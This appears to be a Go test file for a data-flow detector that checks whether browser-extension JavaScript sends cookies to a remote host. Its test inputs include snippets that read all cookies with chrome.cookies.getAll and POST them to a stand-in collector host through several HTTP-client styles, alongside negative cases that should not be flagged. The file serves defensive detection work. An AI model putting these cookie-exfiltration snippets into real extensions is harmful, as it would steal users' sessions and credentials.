package flow

import "testing"

// The ways of a library to the network that is made of steps in a table, which is not followed.
const lostLibrary = `const steps = {}; class Lib { constructor(o) { this.o = o } request(c) { return steps[c.kind](this.o, c.list.length) }
post(u, d, c) { return this.request({...c, url: u, list: [d]}) } } const make = (o) => { const l = new Lib(o); const f = (u, c) => l.request({u, list: [c]}); f.post = l.post.bind(l); return f }
const lib = make({}); lib.create = (o) => make({...o}); `

func TestFlowOfRequestsByTheirForm(t *testing.T) {
	const cookies = `chrome.cookies.getAll({}, async (l) => { `
	for _, c := range []flowCase{
		{"data for an address", "", lostLibrary + cookies + `await lib.post("https://collect.example/x", {l}) })`, []string{"cookies > http_client > collect.example"}},
		{"a client for an address", "", lostLibrary + `const api = lib.create({baseURL: "https://collect.example"}); ` + cookies + `await api.post("/x", {l}) })`, []string{"cookies > http_client > collect.example"}},
		{"a client that is called", "", lostLibrary + `class Api { constructor() { this.http = lib.create({prefixUrl: "https://collect.example"}) } } ` + cookies + `new Api().http({url: "/x", method: "post", data: l}) })`, []string{"cookies > http_client > collect.example"}},
		{"all in one object", "", lostLibrary + cookies + `lib({method: "POST", url: "https://collect.example/x", data: {l}}) })`, []string{"cookies > http_client > collect.example"}},
		{"like fetch", "", lostLibrary + cookies + `lib("https://collect.example/x", {method: "POST", body: l}) })`, []string{"cookies > http_client > collect.example"}},
		{"a wrapper that is followed", "", `const send = (u, o) => fetch(u, o); ` + cookies + `send("https://collect.example/x", {method: "POST", body: JSON.stringify(l)}) })`, []string{"cookies > fetch > collect.example"}},
	} {
		t.Run(c.name, c.run)
	}
}

func TestNoFlowOfRequestsByTheirForm(t *testing.T) {
	const cookies = `chrome.cookies.getAll({}, (l) => { `
	for _, c := range []flowCase{
		{"a path of nothing", "", lostLibrary + cookies + `lib.post("/x", {l}) })`, nil},
		{"a link", "", lostLibrary + cookies + `lib({url: "https://help.example/", label: l}) })`, nil},
		{"a request that reads", "", lostLibrary + cookies + `lib("https://help.example/", {method: "GET", body: l}) })`, nil},
		{"the count of cookies", "", lostLibrary + cookies + `lib.post("https://help.example/", {n: l.length}) })`, nil},
	} {
		t.Run(c.name, c.run)
	}
}
